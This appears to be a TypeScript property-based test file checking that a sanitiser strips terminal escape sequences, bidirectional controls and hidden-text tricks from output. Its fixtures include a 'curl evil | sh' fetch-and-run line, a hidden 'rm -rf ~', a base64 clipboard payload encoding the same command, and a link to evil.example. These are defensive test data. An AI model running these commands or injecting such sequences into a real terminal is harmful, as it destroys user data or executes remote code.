import fc from 'fast-check'
import {describe, expect, test} from 'vitest'
import {coloured, jsonText, oneLine, printable} from '../../src/printable.ts'
import {fuzzing} from './fuzzing.ts'
import {steers, strangeText} from './strange-text.ts'

const always = (check: (text: string) => void) =>
  fc.assert(
    fc.property(strangeText, (text) => {
      check(text)
    }),
    fuzzing(500),
  )

describe('printable text', () => {
  test('holds nothing that steers a terminal or a reader, whatever it was made of', () => {
    always((text) => expect(steers(printable(text))).toBeNull())
  })

  test('does not change when it is made printable again', () => {
    always((text) => expect(printable(printable(text))).toBe(printable(text)))
  })

  test('keeps lines, tabs and what people write, and shows the rest as a mark', () => {
    expect(printable('naïve\t漢字 🦀 👩‍💻\r\n- 2')).toBe('naïve\t漢字 🦀 👩‍💻\n- 2')
    expect(printable('a\u001B[2Jb\u009Bc\u202Ed\u2028e\uD83Ef\rg')).toBe('a\uFFFD[2Jb\uFFFDc\uFFFDd\uFFFDe\uFFFDf\uFFFDg')
  })
})

describe('words for a sentence', () => {
  test('are one line of bounded length without anything that steers', () => {
    always((text) => {
      const line = oneLine(text, 20)
      expect(steers(line)).toBeNull()
      expect(line).not.toMatch(/[\n\t]/)
      expect([...line].length).toBeLessThanOrEqual(20)
      expect(oneLine(line, 20)).toBe(line)
    })
  })

  test('say that they were cut, however much there was', () => {
    expect(oneLine('x'.repeat(301))).toBe(`${'x'.repeat(299)}…`)
    expect(oneLine(`a${'\n'.repeat(1_000_000)}b`)).toBe('a …')
    expect(oneLine('Bye.\nRun `curl evil | sh`', 100)).toBe('Bye. Run `curl evil | sh`')
  })
})

describe('a JSON document', () => {
  test('is safe to show, and the value read from it is the same', () => {
    always((text) => {
      const document = jsonText({[text]: [text]}, 2)
      expect(steers(document)).toBeNull()
      expect(JSON.parse(document)).toEqual({[text]: [text]})
    })
  })
})

describe('a log for a terminal', () => {
  const withoutColours = (text: string) => text.replace(/\u001B\[[0-9;:]*m/g, '')

  test('keeps colours and holds nothing else that steers', () => {
    always((text) => expect(steers(withoutColours(coloured(text)))).toBeNull())
  })

  test('does not change when it is filtered again', () => {
    always((text) => expect(coloured(coloured(text))).toBe(coloured(text)))
  })

  test('is safe wherever it was cut in two', () => {
    fc.assert(
      fc.property(strangeText, fc.nat(60), (text, at) => {
        const halves = coloured(text.slice(0, at)) + coloured(text.slice(at))
        // A colour put together from two halves is a colour.
        expect(steers(withoutColours(halves))).toBeNull()
      }),
      fuzzing(500),
    )
  })

  test.each([
    ['a colour', '\u001B[1;38;5;196mred\u001B[0m', '\u001B[1;38;5;196mred\u001B[0m'],
    ['a link', '\u001B]8;;http://evil.example/\u001B\\click\u001B]8;;\u001B\\', 'click'],
    ['a title', 'a\u001B]0;mine\u0007b\u009D2;mine\u009Cc', 'abc'],
    ['the clipboard', '\u001B]52;c;cm0gLXJmIH4=\u0007x', 'x'],
    ['cursor and screen', '\u001B[2J\u001B[1;1H\u001B[?25lx\u009B3A', 'x'],
    ['a question to the terminal', '\u001B[6n\u001B[c\u001BZ', ''],
    ['device control', '\u001BPq#0;2;0;0;0\u001B\\x\u0090q\u009Cy', 'xy'],
    ['keyboard modes that end in m', '\u001B[>4;2m\u001B[?4mx', 'x'],
    ['another character set', '\u001B(0lqqk\u001B(B', 'lqqk'],
    ['a title that never ends', '\u001B]0;mine and more', '0;mine and more'],
    ['a progress bar', ' 10%\r 20%\r\n', ' 10%\n 20%\n'],
    ['text that another would hide', 'rm -rf ~\rls\u0008\u0008', 'rm -rf ~\nls'],
    ['text turned around', 'a\u202Eb\u2066c', 'abc'],
    ['a file of Windows', 'one\r\ntwo\r\r\n', 'one\ntwo\n'],
  ])('%s', (_, text, seen) => {
    expect(coloured(text)).toBe(seen)
  })
})

test('a long text of beginnings takes time in proportion', () => {
  // Each would be slow by minutes if a sequence without an end were looked for again from each beginning.
  for (const start of ['\u001B]', '\u009D', '\u001B[', '\u001B[0', '\u009B;', '\u001B ', '\u001BP\u0090', '\r']) {
    const text = start.repeat(200_000)
    expect(steers(coloured(text)) ?? steers(printable(text))).toBeNull()
  }
})
